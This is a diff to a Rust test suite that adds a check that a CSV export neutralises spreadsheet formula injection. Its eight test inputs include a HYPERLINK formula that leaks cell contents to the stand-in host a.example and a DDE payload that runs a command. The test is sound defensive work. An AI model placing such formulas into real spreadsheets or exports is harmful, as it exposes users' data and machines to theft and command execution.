@@ -96,3 +96,23 @@ fn a_csv_reader_gets_every_key_back() {
     assert_eq!(lines[1].split(',').count(), columns);
     assert_eq!((lines.len(), lines[7]), (8, ""));
 }
+
+#[test]
+fn no_key_is_a_formula_in_a_spreadsheet() {
+    let attack: [&[u8]; 8] = [
+        b"=1+1",
+        b"+49 30",
+        b"-2",
+        b"@SUM(A1)",
+        b"\t=1",
+        b"\r=1",
+        b"=HYPERLINK(\"http://a.example?\"&A1,\"b\")",
+        b"=cmd|' /C calc'!A0",
+    ];
+    let keys = KeyCounts::of(attack.into_iter());
+    let csv = Sheet::new(&keys, ask(None, None)).csv(&keys, ask(None, None));
+    for line in csv.split("\r\n").skip(1).filter(|line| !line.is_empty()) {
+        assert!(line.trim_start_matches('"').starts_with('\''), "{line}");
+    }
+    assert!(csv.contains(",3d312b31,"), "the bytes stay exact");
+}
